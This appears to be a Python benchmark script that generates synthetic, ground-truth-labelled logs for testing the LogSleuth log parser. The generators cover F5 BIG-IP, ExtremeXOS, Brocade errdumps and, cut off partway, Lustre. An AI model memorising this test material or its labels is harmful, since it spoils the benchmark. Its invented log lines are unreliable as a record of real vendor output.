#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-3.0-or-later
# SPDX-FileCopyrightText: 2026 The LogSleuth authors
"""Made-up logs of systems LogSleuth was not designed on, each 2,000 lines with the true event and
header fields of every line, invented here (no public data set): the sixteenth round, 20 logs,
written 2026-12-05 by a helper that did not read LogSleuth's code; as found: 0.625.
The harness (unseen_logs_harness.py) runs `logsleuth-cli templates` and `formats` on each and
prints grouping accuracy, events against templates, the learned format and how many lines had
their time, level and component read, and read right.

Lines without a header of their own (a Java stack frame, the indented lines of a .NET exception the
Azure Pipelines agent traces after one header, the tab-indented traceback of a Twisted error in
Cowrie's log, GATK's read-filter summary after its first line, the indented lines of an Informix
assertion failure, performance advisory and recovery counts, MyBatis' "###" lines under a Guacamole
error, a Chef FATAL message from "---- Begin output of" to "Ran ... returned 1", the notes under a
Chef deprecation warning) carry the time, level and component of the record they belong to. A
record that has no header at all (the ArangoDB entrypoint's lines, `artemis create`'s output and the
Artemis banner, the "=====" start block of an Arma 3 RPT, LSF's job report, gatk's "Using GATK jar"
and "Running:" lines, GATK's "[date] ... done." line, "Runtime.totalMemory()" and USER ERROR block,
the blank and date lines of Informix's online.log, every line `flutter run` writes itself) gets no
level or component; it takes the time of the line before it that has one, or, where it opens what
follows (a banner, a start block, a report or a wrapper's lines before a program's output, the start
of the file), of the next line that has one. A line that writes a time has that time: Informix's
ctime lines, the RPT block's "Current time:", LSF's "... at Tue Dec  1 10:03:00 2026" lines, GATK's
"[December 1, 2026 at 10:18:07 AM UTC] ... done.". The lines of the SSH session in which `show log`
ran on the Extreme switches (its prompts and "A total of N log messages were displayed.") have the
time of that session, the storage team's "### switch", "Fabric OS:" and blank lines around each
Brocade errdump the time the script ran. LibreOffice's "warn:area:pid:tid:file:line:" lines among
coolwsd's write no time: they take the time of the line before.

Levels are as written: BIG-IP's word after the host (the digit after the message id repeats it),
the four letters of EXOS (Info, Noti, Warn, Erro, Crit), Brocade's INFO, WARNING, ERROR, CRITICAL,
ArangoDB's WARNING, Traffic Server's STATUS and NOTE, the agent's "ERR " and VERB, Docker Desktop's
one letter, Domoticz's "Status:" and "Error:" (a device update has no level), Cowrie's "#debug" or
"#info" after a logger namespace (a line whose system is a protocol, session and address, or "[-]",
has none), the logcat letter in `flutter run` and javac's "warning:" there, coolwsd's INF, WRN, ERR
and LibreOffice's "warn", Chef's FATAL. Lustre's syslog file, the RPT, online.log and BOINC's log
have no level ("LustreError:" is part of the message). The component is the logger, module or
program a line names: BIG-IP's process (tmm1, mcpd, sod), the component.subcomponent of an EXOS
condition (vlan.msgs of vlan.msgs.portLinkStateUp), the module of a Brocade message id (MAPS of
MAPS-1003), the syslog program (kernel, systemd, chronyd), ArangoDB's {topic} (not the five-hex log
id), Artemis' logger, the agent's trace source, Docker Desktop's com.docker.backend.exe path,
GATK's logger, the BOINC project in brackets ("[---]" is none), Cowrie's logger namespace without
its "#level" or the protocol of "[HoneyPotSSHTransport,412,203.0.113.7]", the logcat tag, the ECS
agent's module=file.go, LibreOffice's log area, the class of a Tomcat line and Guacamole's
abbreviated logback logger. Thread names are not components (Traffic Server's "[ET_NET 3]" and
"traffic_server", coolwsd's "[ websrv_poll ]"), nor are pids, hosts, switch names or sessions.

The true event of a line is the format string that wrote it: a value filled into a format string
is a variable (the reason of BIG-IP's "RST sent from %s to %s, [%s] %s", the country of its
geo-blocking iRule, the method and path of Docker Desktop's "proxy >> %s %s", the channel of a
BattlEye chat line, the rule, condition and unit of Brocade's MAPS-1003 line, the command an
attacker runs in Cowrie's "CMD: %s", each line of the job script LSF echoes and of a command's
output in Chef's FATAL message, the reason of BOINC's "Suspending computation - %s", the text of a
Docker Desktop or Domoticz notification, the "Slot-2: " EXOS puts before a stack member's message,
the prefix of Lustre's "Skipped %d previous similar message%s", one call for every rate-limited
message), while two format strings that look alike are two events (GATK's "----" rule and LSF's,
each HTSJDK default and each row of LSF's resource usage summary, each line of the RenderFlex
explanation and each property under it, each row of the Artemis banner, ArangoDB's two "execute
'sudo ...'" hints, each LibreOffice SAL_WARN call site, the two RocksDB stall messages ArangoDB
forwards under one log id, Docker Desktop's proxy response with and without an error). Where a
program wraps the line of another (the agent's "WRITE LINE: " before what its Terminal prints,
`flutter run` showing the app's logcat lines), the event is the inner line's format. Where a log
writes local time without an offset, the host's clock is UTC; where a line only holds a time of
day (online.log, the RPT, GATK, Guacamole's logback lines), the true time is that one.

usage: unseen_logs_round16.py [--only NAME[,NAME]] [--detail] [--list] [--seed N]
  LOGSLEUTH_CLI        the CLI (default build/root/bin/logsleuth-cli)
  LOGSLEUTH_RUN        a prefix that runs it (default: bare when it runs here, else "<repo>/dev exec")
  LOGSLEUTH_BENCH_WORK where the logs are written (default /tmp/logsleuth-bench/unseen-round16)
"""
import datetime as dt
import json
import os

HERE = os.path.dirname(os.path.abspath(__file__))
WORK = os.environ.get("LOGSLEUTH_BENCH_WORK", "/tmp/logsleuth-bench/unseen-round16")
from unseen_logs_harness import Log, main, N_LINES, UTC, ms3, us6, slowed, checked, syslog_ts, fill, ctime  # noqa: E402


def java_frames(g, frames):
    """A few "\tat pkg.Class.method(File.java:N)" frames from a list of (class.method, file)."""
    return [f"\tat {m}({f}:{g.num(40, 900)})" for m, f in frames]


def ms(g, a, b):
    """A timedelta of a..b milliseconds."""
    return dt.timedelta(milliseconds=g.num(a, b))


def next_times(L):
    """Rows written with t=None (a line without a header that opens what follows it: a start banner, a wrapper's
    lines before a program's output) take the time of the next row that has one, or at the end the last one's."""
    nxt = None
    for i in range(len(L.rows) - 1, -1, -1):
        text, ev, t, lv, comp = L.rows[i]
        if t is None:
            L.rows[i] = (text, ev, nxt, lv, comp)
        else:
            nxt = t
    last = None
    for i, (text, ev, t, lv, comp) in enumerate(L.rows):
        if t is None:
            L.rows[i] = (text, ev, last, lv, comp)
        last = L.rows[i][2]
    return L


# 1 ---------------------------------------------------------------- F5 BIG-IP 17.1.1 LTM (an active/standby pair in front of a web shop), /var/log/ltm of the active unit:
#   BSD syslog with the level word after the host, "Dec  1 10:00:00 bigip-a.acme.net notice mcpd[6125]: 01070727:5: message" (the message id and its
#   severity digit before the text; iRule `log local0.` lines have no id); pool members going down and up, pools without members, virtuals becoming
#   unavailable, SSL handshakes failing, RST cause logging, a TCL error of a redirect iRule, syncookie thresholds, clock advances, a failover and back
@checked
def log_bigip(seed):
    L = Log("f5_bigip_ltm", seed, "noyear", True, True)
    g = L.g
    HOST = "bigip-a.acme.net"
    st = {"mcpd": g.num(5000, 7000), "tmm": g.num(10000, 30000), "sod": g.num(4000, 5000), "active": True}
    POOLS = {"pool_web": ([f"10.10.20.{n}:8080" for n in range(11, 17)], "http_health", "vs_shop_https", "10.10.1.100:443"),
             "pool_api": ([f"10.10.21.{n}:8443" for n in range(11, 15)], "https_api", "vs_api_https", "10.10.1.101:443"),
             "pool_img": ([f"10.10.22.{n}:80" for n in range(11, 13)], "tcp_half_open", "vs_img_http", "10.10.1.102:80"),
             "pool_search": ([f"10.10.23.{n}:9200" for n in range(11, 14)], "http_es", "vs_search", "10.10.1.103:9200")}
    since = {(p, m): L.t - dt.timedelta(seconds=g.num(3600, 900000)) for p in POOLS for m in POOLS[p][0]}
    down = set()

    def f5(lv, proc, msg, ev, pid=None):
        L.t += ms(g, 0, 120)
        L.emit(f"{syslog_ts(L.t)} {HOST} {lv} {proc}[{pid or st[proc.rstrip('0123456789')]}]: {msg}", ev, lv, proc)

    def tmm():
        return g.c(["tmm", "tmm1", "tmm2", "tmm3"])

    def client():
        return f"{g.ip('pub')}:{g.port()}"

    def dur(s):
        h, m, sec = s // 3600, s % 3600 // 60, s % 60
        return f"{h}{'hrs' if h > 1 else 'hr'}:{m}{'mins' if m > 1 else 'min'}:{sec}sec"

    def member_down():
        p = g.c(list(POOLS) + ["pool_web", "pool_api"])
        members, mon, vs, vip = POOLS[p]
        m = g.c(members)
        if (p, m) in down:
            return member_up(p, m)
        reason = {"http_health": "No successful responses received before deadline.", "https_api": g.c(["Response Code: 503 (Service Unavailable)", "Response Code: 500 (Internal Server Error)",
                  "No successful responses received before deadline."]), "tcp_half_open": "Unable to connect; No route to host", "http_es": "No successful responses received before deadline."}[mon]
        was = int((L.t - since[(p, m)]).total_seconds())
        f5("notice", "mcpd", f"01070638:5: Pool /Common/{p} member /Common/{m} monitor status down. [ /Common/{mon}: down; last error: /Common/{mon}: {reason} "
                             f"@{L.t:%Y/%m/%d %H:%M:%S}.  ]  [ was up for {dur(was)} ]", "member_down")
        down.add((p, m))
        since[(p, m)] = L.t
        if all((p, x) in down for x in members):
            f5("err", tmm(), f"01010028:3: No members available for pool /Common/{p}", "no_members")
            f5("notice", "mcpd", f"01071682:5: SNMP_TRAP: Virtual /Common/{vs} has become unavailable", "vs_unavailable")
            if p == "pool_web":
                for _ in range(g.num(2, 6)):
                    L.t += ms(g, 100, 3000)
                    f5("info", tmm(), f"Rule /Common/irule_maintenance <HTTP_REQUEST>: Maintenance page served to {g.ip('pub')} for {g.c(['/', '/checkout', '/cart', '/product/' + str(g.num(1000, 9999))])}",
                       "irule_maintenance")

    def member_up(p=None, m=None):
        if p is None:
            if not down:
                return member_down()
            p, m = g.c(sorted(down))
        members, mon, vs, vip = POOLS[p]
        was_empty = all((p, x) in down for x in members)
        L.t += dt.timedelta(seconds=g.num(5, 200))
        f5("notice", "mcpd", f"01070727:5: Pool /Common/{p} member /Common/{m} monitor status up. [ /Common/{mon}: up ]  [ was down for {dur(int((L.t - since[(p, m)]).total_seconds()))} ]", "member_up")
        down.discard((p, m))
        since[(p, m)] = L.t
        if was_empty:
            f5("err", tmm(), f"01010221:3: Pool /Common/{p} now has available members", "members_available")
            f5("notice", "mcpd", f"01071681:5: SNMP_TRAP: Virtual /Common/{vs} has become available", "vs_available")

    def ssl_failed():
        p = g.c(["pool_web", "pool_web", "pool_api"])
        for _ in range(g.c([1, 1, 1, 2, 3])):
            f5("warning", tmm(), f"01260013:4: SSL Handshake failed for TCP {client()} -> {POOLS[p][3]}", "ssl_handshake_failed")

    def rst():
        p = g.c(list(POOLS))
        vip = POOLS[p][3]
        reason = g.c(["No server selected", "Flow expired (sweeper)", "Handshake timeout", "HTTP header (32800) exceeds maximum allowed size of 32768",
                      "SSL handshake timeout exceeded", "TCP 3WHS rejected", "No pool member available" if any(q == p for q, _ in down) else "Flow expired (idle timeout)"])
        f5("notice", tmm(), f"01230140:5: RST sent from {vip} to {client()}, [0x{g.hx(7)}:{g.num(100, 9999)}] {reason}", "rst_sent")

    def tcl_error():
        f5("err", tmm(), "01220001:3: TCL error: /Common/irule_redirect_legacy <HTTP_REQUEST> - Operation not supported. Multiple redirect/respond invocations not allowed (line 2)     "
                         "invoked from within \"HTTP::redirect \"https://[getfield [HTTP::host] \":\" 1][HTTP::uri]\"\"", "tcl_error")

    def irule_slow():
        m = g.c(POOLS["pool_api"][0])
        f5("info", tmm(), f"Rule /Common/irule_log_slow <HTTP_RESPONSE>: slow response {g.num(2000, 15000)} ms {g.c(['GET', 'GET', 'POST'])} "
                          f"{g.c(['/api/v2/cart', '/api/v2/search', '/api/v2/orders', '/api/v2/stock/' + str(g.num(10000, 99999))])} from {m.split(':')[0]}", "irule_slow")

    def geo_block():
        f5("info", tmm(), f"Rule /Common/irule_geo_block <CLIENT_ACCEPTED>: Blocked {g.ip('pub')} country {g.c(['RU', 'CN', 'KP', 'IR', 'BY'])}", "irule_geo_block")

    def syncookie():
        p = g.c(["pool_web", "pool_api"])
        f5("notice", tmm(), f"01010038:5: Syncookie counter {g.num(91, 400)} exceeded vip threshold 90 for virtual = {POOLS[p][3]}", "syncookie_counter")
        if g.r.random() < 0.3:
            f5("notice", tmm(), f"01010240:5: Syncookie HW mode activated, server = {POOLS[p][3]}, HSB modId = {g.num(1, 2)}", "syncookie_hw_on")
            L.t += dt.timedelta(seconds=g.num(20, 300))
            f5("notice", tmm(), f"01010241:5: Syncookie HW mode exited, server = {POOLS[p][3]}, HSB modId = {g.num(1, 2)} from HSB", "syncookie_hw_off")

    def clock():
        f5("notice", tmm(), f"01010029:5: Clock advanced by {g.num(100, 900)} ticks", "clock_advanced")

    def too_much():
        m = g.c(POOLS["pool_web"][0])
        f5("err", tmm(), f"011f0007:3: http_process_state_cx_wait - Invalid action:0x100010 Server sends too much data. Server side (vip=/Common/vs_shop_https profile=http "
                         f"pool=/Common/pool_web server_ip={m.split(':')[0]})", "too_much_data")

    def port_exhaustion():
        m = g.c(POOLS["pool_api"][0])
        f5("crit", tmm(), f"01010201:2: Inet port exhaustion on 10.10.1.{g.num(5, 8)} to {m} (proto 6)", "port_exhaustion")

    def failover():
        peer = "/Common/bigip-b.acme.net (10.10.255.2)"
        f5("notice", "sod", f"010c007e:5: Not receiving status updates from peer device {peer} (Disconnected).", "peer_disconnected")
        L.t += dt.timedelta(seconds=g.num(20, 600))
        f5("notice", "sod", f"010c007f:5: Receiving status updates from peer device {peer} (Online).", "peer_online")
        if g.r.random() < 0.5:
            L.t += dt.timedelta(seconds=g.num(60, 900))
            f5("notice", "sod", "010c0052:5: Standby for traffic group /Common/traffic-group-1.", "standby_for_group")
            f5("notice", "sod", "010c0018:5: Standby", "standby")
            L.t += dt.timedelta(seconds=g.num(120, 1800))
            f5("notice", "sod", "010c006d:5: Leaving Standby for group /Common/traffic-group-1.", "leaving_standby")
            f5("notice", "sod", "010c0053:5: Active for traffic group /Common/traffic-group-1.", "active_for_group")
            f5("notice", "sod", "010c0019:5: Active", "active")

    def tmm_restart():
        f5("emerg", "logger", "Re-starting tmm", "restarting_tmm", pid=g.num(20000, 40000))
        L.t += dt.timedelta(seconds=g.num(20, 60))
        st["tmm"] = g.num(10000, 30000)
        f5("notice", "mcpd", "01070406:5: Removed publication with publisher id TMM1", "removed_publication")
        for p in POOLS:
            for m in POOLS[p][0][:g.num(1, 2)]:
                f5("notice", "mcpd", f"01070727:5: Pool /Common/{p} member /Common/{m} monitor status up. [ /Common/{POOLS[p][1]}: up ]  [ was down for {dur(g.num(20, 70))} ]", "member_up")

    ev = [(30, ssl_failed), (18, rst), (9, member_down), (8, member_up), (10, irule_slow), (6, geo_block), (4, clock), (2, tcl_error), (2, syncookie), (1.5, too_much),
          (0.3, port_exhaustion), (0.3, failover), (0.08, tmm_restart)]
    return L.run(slowed(L, ev, 20), None)


# 2 ---------------------------------------------------------------- Extreme Networks ExtremeXOS 31.7 (a stack of two X465 switches and a standalone X440-G2 in a campus), a saved SSH
#   session: `disable clipaging` and `show log` on each switch: "mm/dd/yyyy hh:mm:ss.cc <Sev:component.subcomponent.condition> message", the newest
#   message first, hundredths of seconds, four-letter severities (Crit, Erro, Warn, Noti, Info), "Slot-2:" before the messages of a stack member;
#   the prompts and "A total of N log messages were displayed." (no header); links, PoE, 802.1X logins, MAC moves, STP, an ELRP loop, logins
@checked
def log_exos(seed):
    L = Log("extreme_exos_show_log", seed, "full", True, True)
    g = L.g

    def switch(name, stack, nports, count):
        """One switch's log, written from oldest to newest, then shown newest first."""
        rows = []
        vlans = ["Corp", "Voice", "Guest", "Printers", "Mgmt"]
        users = ["j.meyer", "a.kowalski", "t.nguyen", "r.santos", "l.chen", "m.okafor", "s.berg"]

        def port():
            return f"{g.num(1, 2)}:{g.num(1, nports)}" if stack else str(g.num(1, nports))

        def x(sev, comp, cond, msg, ev, slot=None):
            rows.append((L.t, sev, f"{comp}.{cond}", comp, (f"Slot-{slot}: " if slot else "") + msg, ev))

        def step(mean):
            L.t += dt.timedelta(microseconds=int(g.r.expovariate(1.0 / mean) * 1e6) + 10000)

        def link():
            p = port()
            slot = p.split(":")[0] if stack and g.r.random() < 0.5 else None
            x("Info", "vlan.msgs", "portLinkStateDown", f"Port {p} link down", "port_link_down", slot)
            if g.r.random() < 0.2:
                x("Info", "POE.port", "PDDisconnect", f"Port {p} PD disconnected", "poe_pd_disconnect")
            step(g.c([2, 5, 40, 600]))
            x("Info", "vlan.msgs", "portLinkStateUp", f"Port {p} link UP at speed {g.c(['1 Gbps', '1 Gbps', '100 Mbps', '2.5 Gbps'])} and full-duplex", "port_link_up", slot)
            if g.r.random() < 0.25:
                x("Info", "POE.port", "Delivering", f"Port {p} is delivering power", "poe_delivering")

        def dot1x():
            p = port()
            mac = g.mac()
            user = g.c(users)
            if g.r.random() < 0.8:
                x("Noti", "nl", "ClientAuthenticated", f"Network Login 802.1x user {user} logged in MAC {mac} port {p} VLAN(s) \"{g.c(vlans[:2])}\", authentication Radius", "nl_authenticated")
            else:
                x("Warn", "nl", "ClientAuthFailure", f"Network Login 802.1x user {g.c(users + ['anonymous', 'host/' + g.alnum(8).upper()])} authentication failed MAC {mac} port {p}", "nl_auth_failed")
            if g.r.random() < 0.3:
                step(600)
                x("Noti", "nl", "ClientLogout", f"Network Login user {user} logged out MAC {mac} port {p}", "nl_logout")

        def mac_move():
            x("Noti", "FDB.MACTracking", "MACMove", f"The MAC address {g.mac()} on VLAN '{g.c(vlans)}' has moved from port {port()} to port {port()}", "mac_move")

        def stp():
            p = port()
            x("Info", "STP.State", "Topology", f"Port={p}: Topology changed", "stp_topology")
            if g.r.random() < 0.5:
                x("Info", "STP.State", "PortState", f"Port={p}: moved from {g.c(['LEARNING', 'LISTENING'])} to FORWARDING", "stp_port_state")

        def login():
            src = f"10.1.0.{g.num(5, 40)}"
            user = g.c(["admin", "admin", "netops", "radius-ro"])
            if g.r.random() < 0.85:
                x("Noti", "AAA", "authPass", f"Login passed for user {user} through ssh ({src})", "aaa_auth_pass")
                for _ in range(g.num(0, 3)):
                    step(20)
                    cmd = g.c(["show ports no-refresh", "show vlan", "show fdb", f"configure vlan {g.c(vlans)} add ports {port()} untagged", "save configuration",
                               f"disable port {port()}", f"enable port {port()}", "show log"])
                    x("Info", "cli", "logRemoteCmd", f"Login: {user}; Cmd: {cmd}; Src: {src}; Access: SSH; Status: Success", "cli_remote_cmd")
                step(300)
                x("Info", "AAA", "logout", f"Administrative account ({user}) logout from ssh ({src})", "aaa_logout")
            else:
                x("Warn", "AAA", "authFail", f"Login failed for user {g.c(['admin', 'root', 'ubnt', 'cisco'])} through ssh ({g.c([src, g.ip('pub')])})", "aaa_auth_fail")

        def elrp():
            p = port()
            x("Crit", "ELRP.Report", "Message", f"[CLI:{g.c(vlans[:3])}:1] LOOP DETECTED : {g.num(20, 5000)} transmited, {g.num(1, 30)} received, ingress slot:port ({p}) egress slot:port ({p})",
              "elrp_loop")
            x("Warn", "ELRP", "Disable.Port", f"Port {p} disabled by ELRP", "elrp_disable_port")

        def poe_over():
            p = port()
            x("Warn", "POE.port", "Fault", f"Port {p} has encountered a fault condition: Overload", "poe_fault")

        def ntp():
            x("Info", "ntp.clnt", "SysPeerChg", f"System peer changed to 10.1.0.{g.num(1, 3)}", "ntp_peer_changed")

        def temp():
            x("Warn", "HAL.Sys", "Warning", f"Temperature of slot {g.num(1, 2) if stack else 1} is {g.num(58, 66)} C, threshold is 57 C", "hal_temperature")

        def dhcp_snoop():
            x("Warn", "ip-security.dhcpSnoop", "RogueSvrDet", f"Rogue DHCP server {g.ip('192')} detected on port {port()} (VLAN {g.c(vlans[2:4])})", "dhcp_rogue")

        ev = [(30, link), (22, dot1x), (14, mac_move), (8, stp), (7, login), (0.6, elrp), (2, poe_over), (2, ntp), (1, temp), (1.2, dhcp_snoop)]
        fns, w = [f for _, f in ev], [a for a, _ in ev]
        while len(rows) < count:
            step(90)
            g.r.choices(fns, w)[0]()
        del rows[count:]
        return rows

    t0 = L.t
    logs = []
    for name, stack, nports, count in [("Campus-Core-Stack.14", True, 48, 1021), ("Bldg-C-X440.3", False, 24, 971)]:
        L.t = t0 + dt.timedelta(minutes=g.num(0, 90))
        logs.append((name, switch(name, stack, nports, count)))
    now = max(rows[-1][0] for _, rows in logs) + dt.timedelta(minutes=g.num(5, 30))
    for name, rows in logs:
        now += dt.timedelta(seconds=g.num(20, 90))
        L.emit(f"{name} # disable clipaging", "prompt_cmd", t=now)
        L.emit(f"{name} # show log", "prompt_cmd", t=now)
        for t, sev, cond, comp, msg, ev in reversed(rows):
            L.emit(f"{t:%m/%d/%Y %H:%M:%S}.{t.microsecond // 10000:02d} <{sev}:{cond}> {msg}", ev, sev, comp, t=t)
        L.emit(f"A total of {len(rows)} log messages were displayed.", "total_displayed", t=now)
        L.emit(f"{name} # ", "prompt", t=now)
    L.t = now
    return L


# 3 ---------------------------------------------------------------- Brocade Fabric OS 9.2.0a on two 64-port Gen 7 FC switches (fabrics A and B of a bank's SAN), the storage team's
#   weekly script `for sw in ...; do echo "### $sw"; ssh admin@$sw errdump; done > raslog.txt`: RASLog "yyyy/mm/dd-hh:mm:ss, [MOD-NNNN], seq, FID 128,
#   SEVERITY, switch, message" (the message id names the module); MAPS rule violations (CRC errors, C3 discards, link resets), latency bottlenecks,
#   logins and failed logins, zoning commits, port faults, fans and power supplies, a firmware download; "Fabric OS: v9.2.0a" before each dump
@checked
def log_brocade(seed):
    L = Log("brocade_fos_errdump", seed, "full", True, True)
    g = L.g
    WWN_HBA = [f"10:00:00:10:9b:{g.hx(2)}:{g.hx(2)}:{g.hx(2)}" for _ in range(30)]

    def dump(sw, count):
        rows = []
        seq = g.num(10000, 60000)

        def r(mod, lv, msg, ev):
            nonlocal seq
            seq += 1
            L.t += ms(g, 0, 900)
            rows.append((L.t, f"{L.t:%Y/%m/%d-%H:%M:%S}, [{mod}], {seq}, FID 128, {lv}, {sw}, {msg}", ev, lv, mod.split("-")[0]))

        def maps():
            p = g.num(0, 63)
            rule = g.c([("ALL_PORTS", "CRC", "CRCs", "defALL_PORTSCRC_0", "Port Health", 0), ("ALL_PORTS", "LR", "Link Resets", "defALL_PORTSLR_5", "Port Health", 5),
                        ("ALL_TARGET_PORTS", "C3TXTO", "Timeouts", "defALL_TARGET_PORTSC3TXTO_3", "Port Health", 3),
                        ("ALL_HOST_PORTS", "TX", "%", "defALL_HOST_PORTSTX_95", "Traffic Performance", 95), ("ALL_OTHER_SFP", "TEMP", "C", "defALL_OTHER_SFPTEMP_85", "SFP Health", 85),
                        ("ALL_PORTS", "ITW", "ITWs", "defALL_PORTSITW_20", "Port Health", 20)])
            grp, m, unit, name, cat, thr = rule
            val = thr + g.num(1, 40) if unit not in ("%", "C") else thr + g.num(1, 4)
            lv = "WARNING" if "TEMP" not in name else "CRITICAL"
            code = "MAPS-1003" if lv == "WARNING" else "MAPS-1001"
            r(code, lv, f"Port {p}, Condition={grp}({m}/MIN>{thr}), Current Value:[{m},{val} {unit}], RuleName={name}, Dashboard Category={cat}.", "maps_violation")

        def bottleneck():
            p = g.num(0, 63)
            if g.r.random() < 0.6:
                r("AN-1003", "WARNING", f"Latency bottleneck on slot 0, port {p}. {g.f(10, 99.9, 2)} percent of last 300 seconds were affected. Avg. time b/w transmits {g.f(0.5, 40, 4)} us.",
                  "latency_bottleneck")
            else:
                r("AN-1010", "WARNING", f"Severe latency bottleneck detected at slot 0 port {p}.", "severe_bottleneck")

        def login():
            ip = f"10.40.1.{g.num(10, 40)}"
            if g.r.random() < 0.8:
                r("SEC-1203", "INFO", f"Login information: Login successful via TELNET/SSH/RSH. IP Addr: {ip}", "login_ok")
                if g.r.random() < 0.5:
                    L.t += dt.timedelta(minutes=g.num(1, 40))
                    r("SEC-1204", "INFO", f"Login information: Logout via TELNET/SSH/RSH. IP Addr: {ip}", "logout")
            else:
                r("SEC-1193", "WARNING", f"Security violation: Login failure attempt via SSH. IP Addr: {g.c([ip, g.ip('pub')])}", "login_failure")

        def zone():
            r("ZONE-1022", "INFO", f"The effective configuration has changed to {g.c(['FAB_' + sw[-1].upper() + '_CFG'])}. Effective configuration checksum 0x{g.hx(8)}.", "zone_effective_changed")
            if g.r.random() < 0.4:
                r("ZONE-1062", "INFO", f"Defined configuration changed by user: admin, role: admin, IP Addr: 10.40.1.{g.num(10, 40)}.", "zone_defined_changed")

        def port_fault():
            p = g.num(0, 63)
            if g.r.random() < 0.5:
                r("PORT-1003", "WARNING", f"Port {p} Faulted because of many Link Failures.", "port_faulted")
            else:
                r("FCPH-1003", "WARNING", f"Port {p} has been disabled due to Loss Of Sync.", "loss_of_sync")

        def device():
            p = g.num(0, 63)
            w = g.c(WWN_HBA)
            if g.r.random() < 0.5:
                r("NS-1012", "WARNING", f"Detected duplicate WWPN [{w}] - devices removed with PID 0x0{g.num(1, 2)}{p:02x}00 and 0x0{g.num(1, 2)}{g.num(0, 63):02x}00", "duplicate_wwpn")
            else:
                r("FW-1424", "WARNING", "Switch status changed from HEALTHY to MARGINAL.", "status_marginal")
                L.t += dt.timedelta(minutes=g.num(1, 90))
                r("FW-1425", "INFO", "Switch status changed from MARGINAL to HEALTHY.", "status_healthy")

        def fan():
            n = g.num(1, 3)
            r("EM-1048", "WARNING", f"Fan #{n} is faulty, RPM is {g.num(0, 900)}.", "fan_faulty")
            L.t += dt.timedelta(hours=g.num(1, 30))
            r("EM-1049", "INFO", f"Fan #{n} is OK, RPM is {g.num(9000, 12000)}.", "fan_ok")

        def psu():
            n = g.num(1, 2)
            r("EM-1034", "ERROR", f"PS {n} set to faulty, rc=2000e.", "psu_faulty")
            L.t += dt.timedelta(hours=g.num(1, 20))
            r("EM-1056", "INFO", f"PS {n} is inserted.", "psu_inserted")

        def ntp():
            r("TS-1009", "INFO", f"Event: NTP Server 10.40.0.{g.num(1, 2)} is reachable.", "ntp_reachable")

        def firmware():
            r("SULB-1001", "WARNING", "Firmwaredownload command has started.", "fwdl_started")
            L.t += dt.timedelta(minutes=g.num(8, 20))
            r("SULB-1002", "INFO", "Firmwaredownload command has completed successfully.", "fwdl_completed")
            r("SULB-1003", "INFO", "Firmwarecommit has started.", "fwcommit_started")
            L.t += dt.timedelta(minutes=g.num(4, 9))
            r("SULB-1004", "INFO", "Firmwarecommit has completed.", "fwcommit_completed")

        ev = [(35, maps), (12, bottleneck), (16, login), (3, zone), (4, port_fault), (3, device), (0.7, fan), (0.3, psu), (2, ntp), (0.15, firmware)]
        fns, w = [f for _, f in ev], [a for a, _ in ev]
        while len(rows) < count:
            L.t += dt.timedelta(seconds=int(g.r.expovariate(1 / 1500)) + 1)
            g.r.choices(fns, w)[0]()
        del rows[count:]
        return rows

    t0 = L.t
    dumps = [("sansw-fab-a", dump("sansw-fab-a", 996))]
    L.t = t0 + dt.timedelta(hours=g.num(1, 6))
    dumps.append(("sansw-fab-b", dump("sansw-fab-b", 996)))
    run = max(rows[-1][0] for _, rows in dumps) + dt.timedelta(minutes=g.num(10, 600))
    for sw, rows in dumps:
        run += dt.timedelta(seconds=g.num(2, 9))
        L.emit(f"### {sw}", "script_echo", t=run)
        L.emit("Fabric OS: v9.2.0a", "fabric_os_version", t=run)
        L.emit("", "blank", t=run)
        for t, text, ev, lv, mod in rows:
            L.emit(text, ev, lv, mod, t=t)
        L.emit("", "blank", t=run)
    L.t = run
    del L.rows[N_LINES:]
    return L


# 4 ---------------------------------------------------------------- Lustre 2.15.5 object storage server oss03 of an HPC centre's scratch file system (RHEL 8, InfiniBand, LNet o2ib),
#   /var/log/messages via rsyslog: "Dec  1 10:00:00 oss03 kernel: LustreError: 12345:0:(ldlm_lockd.c:261:expired_lock_main()) ### ..." (the kernel's
#   lines, with Lustre's pid:ext:(file:line:function()) prefix where it writes one) among systemd, logind and chronyd; client reconnects and evictions,
#   lock callback timeouts, slow RPCs and "Skipped N previous similar messages", LNet RDMA timeouts, a hung service thread with its stack, an OST remount
@checked
def log_lustre(seed):
    L = Log("lustre_oss_messages", seed, "noyear", False, True)
    g = L.g
    HOST = "oss03"
    OSTS = [f"scratch-OST{n:04x}" for n in (6, 7, 8, 9)]
    CLIENTS = [f"10.10.{g.num(3, 6)}.{g.num(10, 250)}@o2ib" for _ in range(60)]
    UUIDS = {c: g.uuid() for c in CLIENTS}
    st = {"sess": g.num(1000, 3000), "logind": g.num(1100, 1300), "chrony": g.num(900, 1000), "kp": g.num(1200, 1300)}

    def k(msg, ev, same_time=False):
        if not same_time:
            L.t += dt.timedelta(microseconds=g.num(0, 900000))
        L.emit(f"{syslog_ts(L.t)} {HOST} kernel: {msg}", ev, None, "kernel")

    def d(prog, pid, msg, ev):
        L.emit(f"{syslog_ts(L.t)} {HOST} {prog}[{pid}]: {msg}", ev, None, prog)

    def pid():
        return g.num(4000, 60000)

    def req():
        return f"req@{g.hx(16)} x{g.num(1790000000000000, 1799999999999999)}/t0(0)"

    def skipped(pfx="Lustre"):
        """libcfs' rate limiter: one format, the prefix of the message it stands for."""
        if g.r.random() < 0.4:
            n = g.c([1, 2, 3, 5, 7, 12, 30, 61])
            k(f"{pfx}: Skipped {n} previous similar message{'s' if n != 1 else ''}", "skipped_similar")

    def reconnect():
        ost, c = g.c(OSTS), g.c(CLIENTS)
        k(f"Lustre: {ost}: Client {UUIDS[c]} (at {c}) reconnecting", "client_reconnecting")
        skipped()
        if g.r.random() < 0.6:
            k(f"Lustre: {ost}: Connection restored to {UUIDS[c]} (at {c})", "connection_restored")
            skipped()

    def evict_lock():
        ost, c = g.c(OSTS), g.c(CLIENTS)
        secs = g.c([100, 101, 151, 200, 303])
        k(f"LustreError: 0:0:(ldlm_lockd.c:261:expired_lock_main()) ### lock callback timer expired after {secs}s: evicting client at {c}  ns: filter-{ost}_UUID lock: {g.hx(16)}/0x{g.hx(16)} "
          f"lrc: 3/0,0 mode: PW/PW res: [0x{g.hx(9)}:0x{g.hx(4)}:0x0].0x0 rrc: {g.num(2, 9)} type: EXT [0->18446744073709551615] (req 0->{g.c([4095, 1048575, 8388607])}) flags: 0x60000400020020 "
          f"nid: {c} remote: 0x{g.hx(16)} expref: {g.num(5, 90)} pid: {pid()} timeout: 0 lvb_type: 0", "lock_callback_expired")
        skipped("LustreError")
